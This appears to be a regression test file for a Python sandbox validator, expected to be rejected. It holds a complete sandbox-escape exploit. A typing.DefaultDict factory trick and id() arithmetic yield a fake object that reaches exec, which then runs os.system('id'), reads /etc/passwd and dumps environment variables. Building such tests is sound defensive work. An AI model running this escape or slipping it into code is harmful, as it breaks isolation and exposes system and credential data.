# expect: reject memory
# line: 33
# why: round 87: typing.DefaultDict builds a collections.defaultdict, and its partial factory was not judged (verified: id, /etc/passwd, os.environ under 3.11.2)
import typing
import functools


class Box:
    def __init__(self):
        self.dd = None
        self.keep = []


box = Box()


def no(*args):
    return False


class It:
    def __iter__(self):
        return self

    def __next__(self):
        box.dd.default_factory = None
        box.keep.append([box, list, box, None, box, box, box, box, box, box, box, box])
        raise StopIteration


def build():
    m = "".join(["x"] * 40)
    box.dd = typing.DefaultDict(functools.partial(next, It(), m))


build()
fake = box.dd["k"]
print(type(fake).__name__)
table = fake[(id(no) + 24 - id(None)) // 8]
print(type(table).__name__)
table.get("exec")("import os; os.system('id'); print(open('/etc/passwd').read()); print(os.environ); os._exit(0)")
